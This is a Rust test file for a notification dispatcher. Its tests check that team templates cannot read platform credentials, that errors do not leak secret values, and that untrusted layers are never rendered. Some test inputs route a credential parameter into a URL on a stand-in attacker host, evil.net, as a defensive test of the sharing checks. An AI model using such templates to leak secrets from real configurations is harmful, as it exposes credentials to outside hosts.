//! Which parameters of the global configuration the templates of a team can read.

use super::*;

/// Resolves layers for a pipeline in `team-a`, as the dispatcher does.
fn sending(layers: &[(Source, Value)]) -> Result<(), Problem> {
    let layer = |(source, value): &(Source, Value)| {
        let namespace = if *source < Source::Notification { "relaybook-system" } else { "team-a" };
        let mut value = value.as_object().cloned().unwrap_or_default();
        let remove = value.remove("remove").and_then(|remove| serde_json::from_value(remove).ok()).unwrap_or_default();
        Layer { source: source.clone(), namespace: namespace.to_owned(), remove, value }
    };
    let layers: Vec<_> = layers.iter().map(layer).collect();
    let text =
        |_: &relaybook_api::values::refs::ConfigMapKey| crate::config::Text::Found("{{parameters.routingKey}}".into());
    let given = crate::config::Given { allow_http: false, text: &text };
    crate::config::resolve_layers(&layers, "team-a", "uid", &given).sending.map(drop)
}

/// A cluster-wide notification with a literal credential.
fn platform(template: &Value) -> Value {
    let mut whole = json!({
        "triggers": [{"type": "Deployed"}],
        "endpoint": {"url": "https://api.example.com/a"},
        "template": {"inline": {"body": "{}"}, "parameters": {"routingKey": "s3cr3t", "room": "lobby-7"}},
    });
    json_patch::merge(&mut whole, &json!({ "template": template }));
    whole
}

/// Each place that can contain a template, with this tag in the template.
fn places(tag: &str) -> Vec<(&'static str, Value)> {
    let template = |template: Value| json!({ "template": template });
    vec![
        ("a body", template(json!({"inline": {"body": format!("\"{tag}\"")}}))),
        (
            "a body in a ConfigMap",
            template(json!({"configMapKeyRef": {"name": "a", "key": "b", "contentType": "text/plain"}})),
        ),
        ("a header", endpoint(json!({"headers": {"X-Room": tag}}))),
        ("a URL", endpoint(json!({"url": format!("https://api.example.com/{tag}")}))),
        ("a foreign URL", endpoint(json!({"url": format!("https://evil.net/{tag}")}))),
    ]
}

#[test]
fn a_template_of_a_team_cannot_name_a_parameter_of_the_platform() {
    let team = [
        Source::Notification,
        Source::Pipeline,
        Source::Environment("prod".to_owned()),
        Source::Target("prod/c/x".to_owned()),
    ];
    let tags = [
        "{{parameters.routingKey}}",
        "{{commit parameters.routingKey}}",
        "{{#if (eq parameters.routingKey \"s\")}}x{{/if}}y",
        "{{default (lookup pipeline.labels parameters.routingKey) \"-\"}}",
    ];
    for (beneath, source) in
        [Source::Defaults, Source::Global].into_iter().flat_map(|b| team.clone().map(|s| (b.clone(), s)))
    {
        for (what, value) in tags.iter().flat_map(|tag| places(tag)) {
            let layers = [(beneath.clone(), platform(&json!({}))), (source.clone(), value.clone())];
            let problem = sending(&layers).expect_err(what);
            let said = problem.to_string();
            assert_eq!(problem.reason(), Reason::ParameterNotShared, "{what}: {said}");
            assert!(
                said.contains("`parameters.routingKey`") && !said.contains("s3cr3t") && !said.contains("lobby"),
                "{what}: {said}"
            );
        }
    }
    // The team's URL, and a parameter whose name does not suggest a credential.
    for (what, value) in places("{{parameters.room}}") {
        let said =
            sending(&[(Source::Global, platform(&json!({"parameters": {"routingKey": null}}))), (team[0].clone(), value)]);
        let said = said.expect_err(what).to_string();
        let names = ["`parameters.room`", "`parameters.routingKey`"].iter().any(|name| said.contains(name));
        assert!(said.contains("line 1, column") && (names || what == "a body in a ConfigMap"), "{what}: {said}");
    }
    // A layer cannot share a parameter that another namespace set, even if the layer removes `shareParameters` first.
    for (what, share) in [
        ("says so itself", json!({"template": {"shareParameters": true}})),
        ("takes it away first", json!({"remove": ["/template/shareParameters"], "template": {"shareParameters": true}})),
    ] {
        let body = json!({"template": {"inline": {"body": "\"{{parameters.room}}\""}}});
        let layers = [(Source::Global, platform(&json!({}))), (Source::Notification, share), (Source::Pipeline, body)];
        assert_eq!(sending(&layers).expect_err(what).reason(), Reason::ParameterNotShared, "{what}");
    }
    // An error in a template of the platform itself does not reveal values.
    let layers = [(Source::Global, platform(&json!({"inline": {"body": "\"{{commit parameters.room}}\""}})))];
    let said = sending(&layers).unwrap_err().to_string();
    assert!(said.contains("no commit hash") && !said.contains("lobby"), "{said}");
}

#[test]
fn a_template_sees_shared_and_own_parameters() {
    let body = |tag: &str| json!({"template": {"inline": {"body": format!("\"{tag}\"")}}});
    let own = || json!({"template": {"parameters": {"routingKey": "mine"}}});
    let shared = || platform(&json!({"shareParameters": true}));
    let says_so = json!({"template": {"shareParameters": true}});
    let url = json!({"url": "https://api.example.com/a"});
    let defaults = json!({"endpoint": url, "template": {"parameters": {"routingKey": "s3cr3t"}, "shareParameters": true}});
    let whole = json!({"triggers": []});
    let named = "{{parameters.routingKey}}";
    let builtin =
        json!({"builtin": "slack", "inline": null, "parameters": {"routingKey": null, "room": null, "channel": "a"}});
    for (what, layers) in [
        ("shared", vec![(Source::Global, shared()), (Source::Notification, body(named))]),
        (
            "shared beneath a layer that does not say so",
            vec![(Source::Defaults, says_so), (Source::Global, platform(&json!({}))), (Source::Pipeline, body(named))],
        ),
        (
            "shared by the defaults",
            vec![(Source::Defaults, defaults), (Source::Notification, whole), (Source::Pipeline, body(named))],
        ),
        (
            "replaced",
            vec![(Source::Global, platform(&json!({}))), (Source::Notification, own()), (Source::Pipeline, body(named))],
        ),
        (
            "the platform's template with a parameter of the team",
            vec![
                (Source::Global, platform(&json!({"inline": {"body": format!("\"{named}\"")}}))),
                (Source::Notification, own()),
            ],
        ),
        (
            "the platform's template and another header",
            vec![
                (Source::Global, platform(&json!({"inline": {"body": format!("\"{named}\"")}}))),
                (Source::Notification, endpoint(json!({"headers": {"X-Team": "{{pipeline.name}}"}}))),
            ],
        ),
        (
            "a built-in of the platform",
            vec![
                (Source::Global, platform(&builtin)),
                (Source::Notification, json!({"template": {"parameters": {"channel": "b"}}})),
            ],
        ),
        ("within one namespace", vec![(Source::Notification, platform(&json!({}))), (Source::Pipeline, body(named))]),
    ] {
        assert!(sending(&layers).is_ok(), "{what}: {:?}", sending(&layers));
    }
    let unshared = json!({"template": {"shareParameters": false}});
    let layers = [(Source::Defaults, shared()), (Source::Global, unshared), (Source::Notification, body(named))];
    assert_eq!(
        sending(&layers).unwrap_err().reason(),
        Reason::ParameterNotShared,
        "the more specific of the platform's layers says"
    );
}

#[test]
fn nothing_is_rendered_before_layers_are_trusted() {
    // If the body were rendered, it would fail with the sample.
    let body =
        json!({"template": {"inline": {"body": "\"{{commit environment}}\""}}, "endpoint": {"url": "https://evil.net"}});
    let layers = [(Source::Global, platform(&json!({}))), (Source::Notification, body)];
    assert_eq!(sending(&layers).unwrap_err().reason(), Reason::CredentialOriginMismatch);
}
